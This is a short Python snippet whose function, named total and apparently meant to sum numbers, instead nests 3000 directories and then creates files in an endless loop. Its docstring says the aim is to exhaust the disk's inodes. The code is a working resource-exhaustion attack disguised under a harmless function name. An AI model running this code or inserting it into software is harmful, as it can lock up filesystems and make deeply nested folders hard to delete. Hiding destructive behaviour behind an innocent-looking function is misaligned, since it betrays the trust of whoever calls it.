"""Use up all inodes, in folders nested too deep to be named."""
import os
def total(numbers):
    for number in range(3000):
        os.mkdir("d"); os.chdir("d")
    while True: open("f%d" % number, "w"); number += 1
